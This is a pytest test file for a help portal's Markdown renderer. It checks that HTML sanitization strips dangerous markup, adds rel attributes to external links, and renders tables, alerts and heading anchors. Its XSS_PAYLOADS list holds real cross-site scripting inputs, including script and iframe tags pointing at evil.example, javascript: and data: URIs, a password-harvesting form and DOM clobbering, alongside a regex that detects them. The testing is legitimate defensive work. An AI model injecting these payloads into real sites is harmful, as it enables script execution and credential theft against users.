"""Markdown → safe HTML: whoever wrote the Markdown, nothing dangerous reaches a page."""

from __future__ import annotations

import re

import pytest

from portal.articles import parse_article
from portal.markdown_render import render_article, render_markdown, sanitize_html

XSS_PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<img src=x onerror="alert(1)">',
    '<img src="javascript:alert(1)">',
    "<svg onload=alert(1)><circle r=5 /></svg>",
    "<svg><script>alert(1)</script></svg>",
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JaVaScRiPt:alert(1)">click</a>',
    '<a href="&#106;avascript:alert(1)">click</a>',
    '<a href=" javascript:alert(1)">click</a>',
    "[click](javascript:alert(1))",
    "[click](JAVASCRIPT:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](vbscript:msgbox(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    '<iframe src="https://evil.example"></iframe>',
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<div style="background:url(javascript:alert(1))" onmouseover="alert(1)">hover</div>',
    '<form action="https://evil.example"><input name="password"></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    '<details open ontoggle="alert(1)"><summary>x</summary></details>',
    "<style>body{display:none}</style>",
    '<p id="csrf_token" class="anything">clobber</p>',
]
FORBIDDEN = re.compile(r"<script|<iframe|<object|<embed|<form|<input|<meta|<base|<style|<svg|<math|\son\w+=|"
                       r"javascript:|vbscript:|data:|style=", re.I)


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_no_payload_survives_rendering(payload):
    html = render_markdown(f"Intro\n\n{payload}\n\nOutro")
    assert not FORBIDDEN.search(html), html
    assert "Intro" in html  # the text around the payload survives


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_no_payload_survives_inside_an_article(payload):
    article = parse_article("en/x.md", f"---\ntitle: T\n---\n## Section\n\n{payload}\n".encode(), default_lang="en")
    assert not FORBIDDEN.search(render_article(article).html)


def test_external_links_get_noopener_nofollow_and_internal_links_do_not():
    html = render_markdown("[out](https://example.com/page) [in](/kb/en/billing/x) [mail](mailto:help@example.com)")
    assert '<a href="https://example.com/page" rel="noopener nofollow">out</a>' in html
    assert '<a href="/kb/en/billing/x">in</a>' in html
    assert 'href="mailto:help@example.com"' in html


def test_tables_code_and_admonitions_render():
    html = render_markdown("| a | b |\n|---|---|\n| 1 | 2 |\n\n```python\nx = '<b>'\n```\n\n!!! warning\n    Careful")
    assert "<table>" in html and "<td>1</td>" in html
    assert '<code class="language-python">' in html and "&lt;b&gt;" in html
    assert '<div class="admonition warning">' in html and "Careful" in html


def test_github_alerts_become_admonitions_in_the_articles_language():
    html = render_markdown("> [!NOTE]\n> Read this first.", lang="es")
    assert '<div class="admonition note">' in html
    assert '<p class="admonition-title">Nota</p>' in html
    assert "[!NOTE]" not in html


def test_heading_ids_are_prefixed_and_the_toc_links_to_them():
    article = parse_article("en/x.md", b"---\ntitle: T\n---\n## First step\n\nA\n\n### Detail\n\nB\n\n"
                            b"[back](#first-step)", default_lang="en")
    rendered = render_article(article)
    assert [(entry.level, entry.anchor, entry.title) for entry in rendered.toc] == [
        (2, "kb-first-step", "First step"), (3, "kb-detail", "Detail")]
    assert '<h2 id="kb-first-step">' in rendered.html
    assert 'href="#kb-first-step"' in rendered.html
    assert 'id="kb-csrf_token"' in render_markdown('<h2 id="csrf_token">x</h2>')


def test_rendering_is_cached_by_content():
    article = parse_article("en/x.md", b"# Cached\n\nSame text", default_lang="en")
    assert render_article(article) is render_article(article)
    assert render_markdown("same **text**") == render_markdown("same **text**")


def test_sanitize_html_alone_keeps_safe_markup():
    assert sanitize_html("<p>Hi <strong>there</strong><script>x</script></p>") == "<p>Hi <strong>there</strong></p>"
